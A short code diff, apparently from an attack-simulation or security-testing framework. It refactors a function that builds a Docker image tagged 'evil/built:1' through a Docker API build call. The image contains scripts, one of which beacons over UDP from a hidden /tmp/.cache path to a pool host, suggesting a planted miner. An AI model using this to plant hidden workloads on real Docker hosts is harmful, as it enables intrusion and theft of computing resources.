@@ -149,14 +149,15 @@ def _build(stage: Stage, word: str, comment: str) -> str:
         "tell.sh": f"{comment}/tmp/.cache udp $POOL {UDP_PORT} $WORD\n",
     }
     dockerfile = f'FROM {_BASE}\nCOPY run.sh pool.conf work.sh tell.sh /opt/\nLABEL built={secrets.token_hex(4)}\nCMD ["sh", "/opt/run.sh"]\n'
-    context = images.archive(
-        {"Dockerfile": dockerfile.encode(), **{name: text.encode() for name, text in files.items()}}
+    dockerfile = (
+        f'FROM {_BASE}\nCOPY {" ".join(files)} /opt/\nLABEL built={secrets.token_hex(4)}\nCMD ["sh", "/opt/run.sh"]\n'
     )
+    context = {"Dockerfile": dockerfile.encode(), **{name: text.encode() for name, text in files.items()}}
     client = stage.attack.client
     answer = client.api.post(
         f"{client.api.base_url}/v1.41/build",
         params={"t": "evil/built:1", "nocache": "1"},
-        data=context,
+        data=images.archive(context),
         headers={"Content-Type": "application/x-tar"},
     )
     answer.raise_for_status()
